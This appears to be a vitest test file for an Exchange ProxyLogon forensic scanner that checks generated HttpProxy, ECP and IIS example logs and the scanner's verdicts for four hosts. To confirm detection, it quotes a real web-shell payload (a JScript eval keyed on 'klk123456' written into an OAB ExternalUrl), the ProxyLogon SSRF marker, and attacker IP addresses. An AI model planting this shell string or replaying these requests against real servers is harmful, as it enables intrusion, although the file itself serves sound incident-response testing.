// examples/evidence: reproducible from scripts/make-examples.mjs, realistic in format, and scanned to the verdicts
// its READMEs promise.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative, sep } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scan } from '../src/engine/scan.js';
import type { HostResult } from '../src/model.js';

const REPO = join(import.meta.dirname, '..');
const EVIDENCE = join(REPO, 'examples', 'evidence');
const HOSTS = ['mail01-compromised', 'mail02-clean', 'mail03-scanned', 'mail04-nologs'];

function listFiles(root: string): string[] {
  const out: string[] = [];
  const walk = (dir: string) => {
    for (const d of readdirSync(dir, { withFileTypes: true })) {
      const abs = join(dir, d.name);
      if (d.isDirectory()) walk(abs);
      else out.push(relative(root, abs).split(sep).join('/'));
    }
  };
  walk(root);
  return out.sort();
}

const committed = listFiles(EVIDENCE);
const find = (re: RegExp) => committed.filter((f) => re.test(f));

describe('make-examples.mjs', () => {
  let out: string;
  beforeAll(() => {
    out = mkdtempSync(join(tmpdir(), 'exhunt-examples-'));
    execFileSync(process.execPath, [join(REPO, 'scripts', 'make-examples.mjs'), out], { stdio: 'pipe' });
  });
  afterAll(() => rmSync(out, { recursive: true, force: true }));

  it('regenerates the committed tree byte for byte', () => {
    const fresh = listFiles(out);
    expect(fresh).toEqual(committed);
    const differing = fresh.filter((f) => !readFileSync(join(out, f)).equals(readFileSync(join(EVIDENCE, f))));
    expect(differing).toEqual([]);
  });
});

describe('examples/evidence format', () => {
  it('has one folder per host, each with a README, and stays small', () => {
    expect(readdirSync(EVIDENCE).sort()).toEqual(HOSTS);
    for (const h of HOSTS) expect(committed).toContain(`${h}/README.md`);
    const total = committed.reduce((s, f) => s + statSync(join(EVIDENCE, f)).size, 0);
    expect(total).toBeGreaterThan(200 * 1024);
    expect(total).toBeLessThan(2 * 1024 * 1024);
  });

  it('writes HttpProxy files where and how Exchange does: hourly .LOG per protocol, 74 columns, CRLF', () => {
    const logs = find(/\/Logging\/HttpProxy\//);
    expect(logs.length).toBeGreaterThan(100);
    for (const f of logs) {
      expect(f).toMatch(/^mail0[123]-[a-z]+\/C\/Program Files\/Microsoft\/Exchange Server\/V15\/Logging\/HttpProxy\/[A-Za-z]+\/HttpProxy_\d{10}-1\.LOG$/);
      const text = readFileSync(join(EVIDENCE, f), 'utf8');
      expect(text.endsWith('\r\n')).toBe(true);
      expect(text.replace(/\r\n/g, '')).not.toContain('\n');
      const lines = text.split('\r\n').slice(0, -1);
      expect(lines[0]).toBe('#Software: Microsoft Exchange Server');
      expect(lines[1]).toMatch(/^#Version: 15\.01\.2176\.00[29]$/);
      expect(lines[2]).toBe('#Log-type: HttpProxy Logs');
      const hour = /HttpProxy_(\d{4})(\d\d)(\d\d)(\d\d)-1/.exec(f)!;
      expect(lines[3]).toMatch(new RegExp(`^#Date: ${hour[1]}-${hour[2]}-${hour[3]}T${hour[4]}:`));
      expect(lines[4].split(',')).toHaveLength(74);
      for (const row of lines.slice(5)) {
        // No value in these rows needs CSV quoting, so a plain split counts the columns.
        expect(row.split(',')).toHaveLength(74);
        expect(row.startsWith(`${hour[1]}-${hour[2]}-${hour[3]}T${hour[4]}:`)).toBe(true);
      }
    }
  });

  it('marks the vulnerable and the patched builds in #Version', () => {
    const version = (host: string) =>
      new Set(find(new RegExp(`^${host}/.*/Logging/HttpProxy/`)).map((f) => readFileSync(join(EVIDENCE, f), 'utf8').split('\r\n')[1]));
    expect([...version('mail01-compromised')]).toEqual(['#Version: 15.01.2176.002']);
    expect([...version('mail02-clean')]).toEqual(['#Version: 15.01.2176.009']);
  });

  it('writes IIS logs with the IIS 10 header and the 15 default fields', () => {
    const logs = find(/\/C\/inetpub\/logs\/LogFiles\/W3SVC1\/u_ex\d{6}\.log$/);
    expect(logs.length).toBeGreaterThan(20);
    for (const f of logs) {
      const lines = readFileSync(join(EVIDENCE, f), 'utf8').split('\r\n').slice(0, -1);
      expect(lines.slice(0, 2)).toEqual(['#Software: Microsoft Internet Information Services 10.0', '#Version: 1.0']);
      expect(lines[3]).toBe(
        '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken',
      );
      for (const row of lines.slice(4)) expect(row.split(' ')).toHaveLength(15);
    }
  });

  it('carries the real HelseCERT values in mail01 and only there', () => {
    const ecp = readFileSync(join(EVIDENCE, find(/^mail01.*ECPServer20210303-1\.LOG$/)[0]), 'utf8');
    // EventData holds quotes and commas on the attack rows, so it is CSV-quoted as a whole.
    expect(ecp).toMatch(/^2021-03-03T06:49:53\.772Z,MAIL01,ECP\.Request,"S:TIME=\d+;S:SID=/m);
    expect(ecp).toContain(
      `'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'''`,
    );
    expect(ecp).toContain('S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=M1xSxxxDuw.&schema=OABVirtualDirectory;');
    const all = (host: string) => find(new RegExp(`^${host}/`)).map((f) => readFileSync(join(EVIDENCE, f), 'utf8')).join('\n');
    const m1 = all('mail01-compromised');
    for (const v of ['130.255.189.21', '139.162.202.236', '67.205.176.9', 'ServerInfo~a]@MAIL01.corp.example.org:444/ecp/proxyLogon.ecp?#', 'schema=ResetOABVirtualDirectory#'])
      expect(m1).toContain(v);
    for (const h of ['mail02-clean', 'mail03-scanned', 'mail04-nologs']) {
      const text = all(h);
      for (const v of ['130.255.189.21', '139.162.202.236', 'klk123456', 'ServerInfo~a]@']) expect(text).not.toContain(v);
    }
  });

  it('keeps indicators out of the per-host READMEs (they are swept with the evidence)', () => {
    for (const h of HOSTS) {
      const text = readFileSync(join(EVIDENCE, h, 'README.md'), 'utf8');
      expect(text).not.toMatch(/\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b|<script|eval\(|ServerInfo~|Download failed|#Log-type|#Fields/);
    }
  });
});

describe('scanning the examples', () => {
  const results = new Map<string, HostResult>();
  beforeAll(async () => {
    const report = await scan({ paths: HOSTS.map((h) => join(EVIDENCE, h)), jobs: 1 });
    report.hosts.forEach((h, i) => results.set(HOSTS[i], h));
  }, 120_000);
  const rules = (h: string) => results.get(h)!.findings.map((f) => f.rule);
  const count = (h: string, rule: string) => rules(h).filter((r) => r === rule).length;

  it('mail01-compromised: compromised, with the whole HelseCERT chain graded', () => {
    const h = results.get('mail01-compromised')!;
    expect(h.verdict).toBe('compromised');
    expect(h.name).toBe('MAIL01');
    expect(count('mail01-compromised', 'PL-02')).toBe(8); // mapi, proxyLogon.ecp (241), GetObject, SetObject: twice each
    expect(count('mail01-compromised', 'PL-03')).toBe(2); // the autodiscover-only rows
    expect(count('mail01-compromised', 'PL-23')).toBe(1); // ResetOABVirtualDirectory, 200
    expect(count('mail01-compromised', 'PL-22')).toBe(2); // the two script ExternalUrl commands
    expect(count('mail01-compromised', 'PL-30')).toBe(1);
    expect(rules('mail01-compromised')).toContain('PL-04'); // the NSE x.js probe of 2021-03-07
    const session = h.findings.filter((f) => f.rule === 'PL-02' && f.evidence.status === '241');
    expect(session.map((f) => f.time)).toEqual(['2021-03-03T06:49:46.210Z', '2021-03-03T06:59:13.030Z']);
    const shell = h.findings.find((f) => f.rule === 'PL-22')!;
    expect(shell.evidence.shell_password).toBe('klk123456');
    expect(shell.evidence.ecp_canary).toBe('M1xSxxxDuw');
  });

  it('mail02-clean: clean, with HttpProxy covering the window', () => {
    const h = results.get('mail02-clean')!;
    // EXP-01 (the build, 15.1.2176.9, still lacks the ProxyShell fixes) describes the host, not an attack.
    expect(h.findings.filter((f) => f.severity !== 'info' && f.kind !== 'exposure')).toEqual([]);
    expect(h.verdict).toBe('clean');
    expect(h.reasons[0]).toMatch(/HttpProxy\/Owa 2020-11-25 → 2021-03-31/);
  });

  it('mail03-scanned: scanner probes only, never compromised', () => {
    const h = results.get('mail03-scanned')!;
    expect(h.verdict).toBe('attempted');
    expect(h.reasons[0]).toMatch(/^scanner probes only/);
    expect(h.findings.every((f) => f.kind === 'scan' || f.kind === 'exposure' || f.severity === 'info')).toBe(true);
    expect(count('mail03-scanned', 'PL-04')).toBe(4);
    expect(count('mail03-scanned', 'PL-05')).toBe(1);
  });

  it('mail04-nologs: insufficient evidence', () => {
    const h = results.get('mail04-nologs')!;
    expect(h.verdict).toBe('insufficient-evidence');
    // Its applicationHost.config declares the Exchange sites and sets no Extended Protection: off everywhere (exposure).
    expect(h.findings.map((f) => [f.rule, f.severity, f.kind, f.evidence.state])).toEqual([['EXP-EP', 'high', 'exposure', 'off']]);
  });
});
